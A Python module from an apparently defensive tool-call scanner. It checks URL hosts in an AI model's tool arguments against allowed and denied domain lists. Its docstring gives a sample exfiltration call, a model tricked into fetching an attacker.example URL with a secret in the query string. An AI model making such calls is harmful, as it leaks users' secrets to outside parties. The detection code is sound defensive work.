"""Exfiltration by URL: hosts named in tool arguments checked against allowed and denied domains.

A model tricked into calling ``fetch(url="https://attacker.example/?q=<secret>")`` leaks data
whatever the scan finds in the query string, so a policy can name the only hosts tool arguments
may point to (``mcp.domains.allow``) or hosts they must never point to (``mcp.domains.deny``).
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator

from weir.payload import walk
from weir.policy import Domains
from weir.results import Finding

ENTITY = "DENIED_DOMAIN"

# scheme://[userinfo@]host — each part bounded and made of one character class, so the match is
# linear; the host is what the check is about.
_URL = re.compile(
    r"(?i)\b(?:https?|wss?|ftps?|sftp|file|gopher|ldaps?)://(?:[^\s/?#@\[\]]{0,256}@)?(\[[0-9a-f:.]{2,64}\]|[a-z0-9._~%-]{1,253})"
)


def hosts(text: str) -> Iterator[tuple[int, int, str]]:
    """(start, end, host) of every URL host in ``text``, lowercased, trailing dot dropped."""
    for m in _URL.finditer(text):
        host = m.group(1).lower().rstrip(".")
        if host:
            yield m.start(1), m.end(1), host


def _matches(host: str, entry: str) -> bool:
    entry = entry.lower().rstrip(".")
    if entry.startswith("*."):
        return host.endswith(entry[1:])
    return host == entry or host.endswith("." + entry)


def denied(host: str, domains: Domains) -> bool:
    if any(_matches(host, d) for d in domains.deny):
        return True
    return bool(domains.allow) and not any(_matches(host, a) for a in domains.allow)


def check(arguments: object, domains: Domains) -> list[Finding]:
    """A ``DENIED_DOMAIN`` finding for each URL host in the arguments the policy does not allow."""
    if not (domains.allow or domains.deny):
        return []
    return list(_findings(arguments, domains))


def _findings(arguments: object, domains: Domains) -> Iterable[Finding]:
    leaves = walk(arguments) if isinstance(arguments, (dict, list)) else []
    for leaf in leaves:
        text = leaf.text if isinstance(leaf.text, str) else leaf.text.decode("utf-8", "replace")
        for start, end, host in hosts(text):
            if denied(host, domains):
                yield Finding(
                    entity=ENTITY,
                    rule="mcp.domains",
                    category="injection",
                    start=start,
                    end=end,
                    score=1.0,
                    value=host,
                    path=leaf.path,
                    in_key=leaf.in_key,
                )
